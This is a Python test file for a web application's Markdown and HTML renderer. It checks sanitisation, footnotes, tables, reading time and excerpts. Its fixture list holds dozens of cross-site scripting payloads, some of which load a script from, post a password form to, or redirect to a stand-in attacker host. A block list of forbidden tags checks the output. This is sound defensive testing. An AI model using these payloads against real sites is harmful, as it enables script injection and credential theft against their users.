"""Markdown and HTML become safe HTML, whoever wrote them."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from apps.common.markup import beginning_of, plain_text, reading_minutes, render, render_comment

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<http://evil.example/"onmouseover=alert(1)>',
    "[x](http://e.example 'a\" onmouseover=\"alert(1)')",
    '```"><script>alert(1)</script>\nx\n```',
    '``` x" onclick="alert(1)\nx\n```',
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<video><source onerror=alert(1)></video>",
    "<video poster='javascript:alert(1)'></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=app class='fixed inset-0'>x</p>",
    "<a id=location href='#top'>x</a>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "\x00<scr\x00ipt>alert(1)</script>",
]
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "button", "base", "meta", "link", "svg", "math",
    "textarea", "template", "noscript", "title",
}  # fmt: skip
ADDRESSES = {"href", "src", "poster", "cite", "action", "formaction", "background", "data", "xlink:href"}


class Guard(HTMLParser):
    """Fails on anything that could act."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs:
            text = (value or "").strip()
            assert not name.startswith("on"), name
            assert name != "style"
            if name == "id":
                assert text.startswith("u-"), text
            if name in ADDRESSES:
                assert urlsplit(text).scheme.lower() in {"", "http", "https", "mailto"}, text
            if name == "srcset":
                assert "script:" not in text


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_text_can_act(attack: str) -> None:
    for html in (render(attack, "markdown"), render(attack, "html"), render_comment(attack)):
        Guard().feed(html)


def test_rendering_what_was_rendered_changes_nothing_that_acts() -> None:
    for attack in ATTACKS:
        Guard().feed(render(render(attack, "html"), "html"))


def test_image_with_a_title_becomes_a_figure() -> None:
    html = render('![A quay](/media/quay.webp "The quay at dawn")', "markdown")
    assert "<figure>" in html
    assert "<figcaption>The quay at dawn</figcaption>" in html
    assert 'alt="A quay"' in html
    assert 'loading="lazy"' in html


def test_footnotes_lead_there_and_back() -> None:
    html = render("Said who?[^1]\n\n[^1]: A fisherman.", "markdown")
    assert 'class="footnote-ref"' in html
    assert 'class="footnotes"' in html
    assert html.count('href="#u-fn') == 2
    assert 'id="u-fn1"' in html


def test_wide_tables_scroll_by_themselves_and_keep_their_alignment() -> None:
    html = render("|a|b|\n|:-|-:|\n|1|2|", "markdown")
    assert '<div class="table-scroll" tabindex="0"><table>' in html
    assert '<td class="align-right">2</td>' in html


def test_code_has_colours_by_class() -> None:
    html = render("```python\ndef f(): pass\n```", "markdown")
    assert '<pre class="highlight" tabindex="0" data-language="python"><code><span class="k">def</span>' in html
    assert "&lt;b&gt;" in render("```nosuchlanguage\n<b>\n```", "markdown")


def test_headings_have_ids_that_links_reach() -> None:
    html = render("## The sea\n\n[up](#the-sea)", "markdown")
    assert '<h2 id="u-the-sea"' in html
    assert 'href="#u-the-sea"' in html


def test_task_lists_show_what_is_done() -> None:
    html = render("- [x] done\n- [ ] open", "markdown")
    assert html.count('type="checkbox"') == 2
    assert html.count("disabled") == 2
    assert html.count("checked=") == 1


@pytest.mark.parametrize(("text", "minutes"), [("", 1), ("word " * 230, 1), ("word " * 700, 3), ("字" * 1200, 3)])
def test_reading_time_counts_words_and_ideographs(text: str, minutes: int) -> None:
    assert reading_minutes(f"<p>{text}</p>") == minutes


@pytest.mark.parametrize(
    ("rendered", "text"),
    [
        ("<p>One</p><p>two<br>three <em>fo</em>ur</p>", "One two three four"),
        ("<ul><li>1 &lt; 2</li><li>&amp;lt; it&#39;s</li></ul>", "1 < 2 &lt; it's"),
        ('<p title="a > b, it\'s \' <i>">x</p> <img alt="1 > 0"> y', "x y"),
        ("<p>cut <em", "cut"),
        ('<p>cut <a href="https://example.org/?a=>', "cut"),
        ("<p>cut <", "cut"),
    ],
)
def test_the_plain_text_of_html_is_what_one_reads(rendered: str, text: str):
    assert plain_text(rendered) == text


@pytest.mark.parametrize(
    ("rendered", "beginning"),
    [
        ("", ""),
        ("<p>All of it.</p>", "All of it."),
        ("<p>" + "word " * 100 + "</p>", "word " * 39 + "word…"),
        ("<p>" + "x" * 190 + " three, more</p>", "x" * 190 + " three…"),
        ("<p>Short " + "x" * 300 + "</p>", "Short " + "x" * 193 + "…"),
        ("<p>" + "字" * 300 + "</p>", "字" * 199 + "…"),
        ("<p>" + "<em></em>" * 1000 + "far in</p>", "far in"),
    ],
)
def test_a_text_begins_with_whole_words(rendered: str, beginning: str):
    assert beginning_of(rendered) == beginning


def test_no_half_of_a_sign_is_where_the_html_was_cut():
    for length in range(1990, 2003):
        assert "&" not in beginning_of(f"<p>{'<b>' * ((length - 250) // 3)}{'x' * 60} {'y&quot;' * 500}</p>")
